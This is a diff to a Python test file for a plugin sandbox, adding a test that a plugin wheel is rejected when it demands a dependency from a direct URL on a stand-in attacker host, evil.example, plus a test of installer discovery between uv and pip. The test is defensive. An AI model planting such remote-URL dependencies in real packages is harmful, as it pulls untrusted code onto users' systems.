@@ -20,7 +20,7 @@ import trio
 from fairlead.errors import PluginConflict, PluginError, PluginLoadError, PluginNotFound, PluginVersionError
 from fairlead_sandbox.environments import Asks, Environment, PluginStore, Sources, repack
 from fairlead_sandbox.environments._closure import closure, finder
-from fairlead_sandbox.environments._installers import Pip
+from fairlead_sandbox.environments._installers import Pip, Uv, find_installer
 
 from .packages import TRAP, Unpacker, entry_points, plugin_files, wheel
 
@@ -203,6 +203,31 @@ async def test_core_from_elsewhere_is_never_taken(store: PluginStore, tmp_path: 
         PluginLoadError, match="needs fairlead-sandbox, which the host has and which must not come from"
     ):
         await store.add(str(needy), Sources((str(links),), no_index=True))
+
+
+async def test_place_that_a_plugin_names_is_not_asked(quick: PluginStore, tmp_path: Path) -> None:
+    """Neither an index nor the person has said that something comes from there."""
+    path = wheel(
+        tmp_path,
+        "acme-dice",
+        plugin_files("acme_dice"),
+        requires=("acme-evil @ https://evil.example/acme_evil-1.0-py3-none-any.whl",),
+        entry_points=entry_points("dice", "acme_dice"),
+    )
+    with pytest.raises(PluginLoadError, match=r"wants acme-evil from https://evil\.example/"):
+        await quick.add(str(path))
+
+
+async def test_uv_is_used_where_it_is(cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Beside the interpreter, then on the path; else pip."""
+    assert "uv" == (await find_installer(cache)).name
+    monkeypatch.setattr("sys.executable", str(tmp_path / "python"))
+    monkeypatch.setenv("PATH", str(tmp_path))
+    (tmp_path / "python").symlink_to(Path(sysconfig.get_path("scripts")) / "python")
+    assert "pip" == (await find_installer(cache)).name
+    (tmp_path / "uv").write_text("#!/bin/sh\n")
+    (tmp_path / "uv").chmod(0o755)
+    assert Uv(str(tmp_path / "uv")) == await find_installer(cache)
 
 
 async def test_core_that_is_too_old_for_it_is_told(store: PluginStore, tmp_path: Path) -> None:
